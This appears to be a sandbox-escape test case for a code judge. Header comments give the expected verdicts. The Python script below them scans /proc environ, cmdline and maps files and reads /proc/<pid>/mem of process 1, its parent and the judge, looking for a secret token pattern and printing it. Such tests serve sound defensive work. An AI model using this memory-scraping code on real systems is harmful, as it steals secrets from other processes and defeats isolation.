#: tries: reads the memory of process 1, its parent and the judge through /proc
#: task: token
#: verdict: wrong_answer runtime_error
#: harms: may read the memory of processes of the same user

import os
import re

pattern = re.compile(rb"token:[0-9a-f]{16}")
for pid in (1, os.getppid(), JUDGE_PID, CANARY_PID, "self", "thread-self"):
    for name in ("environ", "cmdline", "maps", "auxv"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as file:
                if found := pattern.search(file.read()):
                    print(found[0].decode())
                    os._exit(0)
        except OSError:
            pass
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                begin, end = (int(x, 16) for x in line.split()[0].split("-"))
                memory.seek(begin)
                if found := pattern.search(memory.read(min(end - begin, 1 << 24))):
                    print(found[0].decode(), flush=True)
                    os._exit(0)
    except (OSError, ValueError, OverflowError):
        pass
